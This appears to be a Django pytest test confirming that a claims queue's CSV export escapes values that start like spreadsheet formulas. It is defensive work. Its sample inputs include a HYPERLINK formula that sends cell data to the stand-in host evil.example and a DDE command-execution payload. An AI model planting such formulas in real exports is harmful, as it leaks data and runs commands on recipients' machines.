"""The staff queue's CSV export does not carry a formula into the officer's spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests.claims.queue.test_queue import center_a, center_b, claim, client_for, officer  # noqa: F401

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_a_name_or_employer_that_starts_like_a_formula_is_exported_as_text(
    officer,  # noqa: F811
    center_a,  # noqa: F811
    prefix,
):
    payload = prefix + 'HYPERLINK("http://evil.example/?"&C2,"xem")'
    claim(center_a, name=payload, employer_name=prefix + "cmd|' /C calc'!A0")
    response = client_for(officer).get(reverse("staff:queue_csv"))
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(body)))[1]
    assert row[2] == "'" + payload
    assert row[5] == "'" + prefix + "cmd|' /C calc'!A0"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
